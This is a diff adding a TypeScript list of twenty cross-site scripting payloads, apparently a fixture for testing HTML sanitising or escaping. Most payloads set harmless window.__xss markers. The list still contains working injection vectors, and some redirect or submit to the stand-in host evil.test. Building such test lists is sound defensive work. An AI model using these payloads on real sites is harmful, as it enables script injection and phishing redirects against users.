@@ -1,0 +1,23 @@
+/** Twenty texts that become markup, script or a link wherever a page takes text for more than text. */
+export const payloads: readonly string[] = [
+  "<script>window.__xss=1</script>",
+  "<img src=x onerror=window.__xss=2>",
+  "<svg onload=window.__xss=3>",
+  '"><script>window.__xss=4</script>',
+  "'><img src=x onerror=alert(5)>",
+  '" onmouseover="window.__xss=6" x="',
+  "' autofocus onfocus='window.__xss=7' x='",
+  "</textarea><script>window.__xss=8</script>",
+  "</pre></code><iframe srcdoc='<script>parent.__xss=9</script>'></iframe>",
+  "</title></style><svg/onload=alert(10)>",
+  "javascript:window.__xss=11",
+  "<a href='javascript:window.__xss=12'>press here</a>",
+  "<iframe src='javascript:parent.__xss=13'></iframe>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=14>",
+  "<form action=https://evil.test><button autofocus>15</button></form>",
+  "<base href=https://evil.test/>16",
+  "<meta http-equiv=refresh content='0;url=https://evil.test/17'>",
+  "<object data='data:text/html,<script>parent.__xss=18</script>'></object>",
+  "{{constructor.constructor('window.__xss=19')()}}",
+  "<style>@import'https://evil.test/20'</style><details open ontoggle=window.__xss=20>",
+];
